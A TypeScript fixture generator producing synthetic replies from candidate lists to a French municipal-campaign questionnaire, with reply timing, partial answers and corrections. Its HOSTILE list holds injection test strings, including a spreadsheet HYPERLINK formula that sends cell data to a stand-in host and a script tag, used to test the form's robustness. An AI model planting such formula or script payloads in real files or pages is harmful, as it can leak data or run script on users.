import type { CampaignQuestion } from '../../src/app/campaign/question.ts';
import { blankAnswer, MANNERS, type SampleAnswer, sampleAnswer } from './answer-phrases.ts';
import type { SampleList } from './lists.ts';
import type { SampleContact } from './people-files.ts';
import { type Choices, choices } from './random.ts';

/** One sending of the form. A later one of the same list corrects the earlier. */
export interface SampleReply {
  /** Local time of the election's zone. */
  readonly at: string;
  readonly code: string;
  readonly commune: string;
  readonly label: string;
  /** Publication allowed. */
  readonly consent: boolean;
  readonly name: string;
  readonly role: string;
  readonly entitled: boolean;
  /** By question id; a question absent was left blank. */
  readonly answers: Readonly<Record<string, SampleAnswer>>;
}

/** How each list behaves; lists are dealt to these in their order in the commune, never by label. */
export interface Behaviours {
  readonly full: readonly SampleList[];
  readonly partial: readonly SampleList[];
  readonly refused: readonly SampleList[];
  readonly declined: readonly SampleList[];
  readonly unreachable: readonly SampleList[];
  readonly silent: readonly SampleList[];
}

const FIRST_DAY = '2026-02-27';

/** Days after the opening on which replies come: at once, after the reminder, at the last moment. */
const WAVES = [0, 1, 1, 3, 4, 4, 5, 7, 8, 8] as const;

/** What the other lists of a commune do, from a start that moves by one at each commune. */
const TURNS = ['silent', 'partial', 'unreachable', 'silent', 'declined', 'silent', 'refused'] as const;

/** Texts that an attentive form must survive. */
const HOSTILE = [
  '=HYPERLINK("https://piege.example/?"&A1;"Cliquez ici")',
  '<script>alert("bonjour")</script> Nous nous engageons.',
  '+33 tonnes en moins, "sûr et certain" ; voir <b>notre</b> site',
  '@SOMME(1;1)\nDeuxième ligne\tavec une tabulation, une émoji 🌱 et un {{link}}',
] as const;

/** Deals lists to behaviours: two full replies where a commune compares, fewer elsewhere. */
export function dealBehaviours(lists: readonly SampleList[], contacts: readonly SampleContact[]): Behaviours {
  const reachable = new Set(contacts.map(({ list }) => list));
  const dealt = { full: [], partial: [], refused: [], declined: [], unreachable: [], silent: [] } as {
    [K in keyof Behaviours]: SampleList[];
  };
  const communes = [...new Set(lists.map(({ code }) => code))];
  communes.forEach((code, index) => {
    const here = choices(`behaviours ${code}`).shuffled(lists.filter((list) => list.code === code));
    const able = here.filter((list) => reachable.has(list));
    dealt.silent.push(...here.filter((list) => !reachable.has(list)));
    const fullHere = index % 8 === 7 ? 0 : index % 4 === 3 ? 1 : index % 12 === 0 ? 3 : 2;
    dealt.full.push(...able.slice(0, fullHere));
    const rest = able.slice(fullHere);
    const turns = TURNS.slice(index % TURNS.length);
    rest.forEach((list, at) => {
      dealt[turns[at] ?? 'silent'].push(list);
    });
  });
  return dealt;
}

/** Every sending of the form, in the order of time. */
export function sampleReplies(questions: readonly CampaignQuestion[], behaviours: Behaviours): SampleReply[] {
  const random = choices('replies');
  const { full, partial, refused } = behaviours;
  const first = [...full, ...partial, ...refused].map((list, index) => {
    const manner = MANNERS[index % MANNERS.length] ?? 'measured';
    const answers = Object.fromEntries(
      questions.map((question) => [question.id, sampleAnswer(question, manner, random)] as const),
    );
    const reply = replyOf(list, answers, random, !refused.includes(list));
    return partial.includes(list) ? { ...reply, answers: keptOnly(answers, questions, index) } : reply;
  });
  const withHostile = first.map((reply, index) => {
    const hostile = index % 9 === 4 ? HOSTILE[Math.floor(index / 9)] : undefined;
    return hostile === undefined ? reply : withWords(reply, hostile);
  });
  const corrections = withHostile.filter((_, index) => index % 13 === 2).map((reply) => correctionOf(reply));
  const notConcerned = withHostile.map((reply, index) =>
    index % 10 === 6
      ? withAnswer(reply, 'dangers-information', {
          ...blankAnswer(),
          stance: 'not_applicable',
          words: 'La commune n’est pas concernée.',
        })
      : reply,
  );
  return [...notConcerned, ...corrections].sort((one, other) => (one.at < other.at ? -1 : one.at > other.at ? 1 : 0));
}

function replyOf(
  list: SampleList,
  answers: Readonly<Record<string, SampleAnswer>>,
  random: Choices,
  consent: boolean,
): SampleReply {
  const second = random.chance(0.25);
  const person = list.speakers[second ? 1 : 0];
  return {
    at: moment(random.pick(WAVES), 8 + random.below(14), random.below(60)),
    code: list.code,
    commune: list.commune,
    label: list.label,
    consent,
    name: `${person?.givenName} ${person?.surname}`,
    role: second ? 'Secrétariat de campagne' : 'Direction de campagne',
    entitled: true,
    answers,
  };
}

/** A partial reply answers the first third of the questions and leaves the others blank. */
function keptOnly(
  answers: Readonly<Record<string, SampleAnswer>>,
  questions: readonly CampaignQuestion[],
  index: number,
) {
  const kept = questions.slice(0, 4 + (index % 3));
  return Object.fromEntries(
    questions.map(({ id }) => [id, kept.some((one) => one.id === id) ? (answers[id] ?? blankAnswer()) : blankAnswer()]),
  );
}

function withWords(reply: SampleReply, words: string): SampleReply {
  const target = reply.answers['transparence-donnees'] ?? blankAnswer();
  const stance = target.stance === 'unanswered' ? 'unconditional' : target.stance;
  return withAnswer(reply, 'transparence-donnees', { ...target, stance, words });
}

/** A list comes back the next day with a figure and a date. */
function correctionOf(reply: SampleReply): SampleReply {
  const day = Number(reply.at.slice(8, 10));
  const at = reply.at.startsWith('2026-02')
    ? `2026-03-02${reply.at.slice(10)}`
    : `2026-03-0${Math.min(7, day + 1)}T22:30`;
  const figure = {
    stance: 'unconditional',
    value: '130 kg/hab/an',
    deadline: 'fin 2030',
    scope: 'toute la commune',
    means: '',
    condition: '',
    words: 'Nous corrigeons notre première réponse : voici notre objectif chiffré.',
  } as const;
  return { ...withAnswer(reply, 'prevention-omr', figure), at };
}

function withAnswer(reply: SampleReply, id: string, answer: SampleAnswer): SampleReply {
  return { ...reply, answers: { ...reply.answers, [id]: answer } };
}

function moment(days: number, hour: number, minute: number): string {
  const date = new Date(Date.parse(`${FIRST_DAY}T00:00Z`) + days * 86_400_000).toISOString().slice(0, 10);
  const two = (value: number) => String(value).padStart(2, '0');
  // Nobody replies before the questionnaire opens at nine.
  return `${date}T${two(days === 0 ? Math.max(10, hour) : hour)}:${two(minute)}`;
}
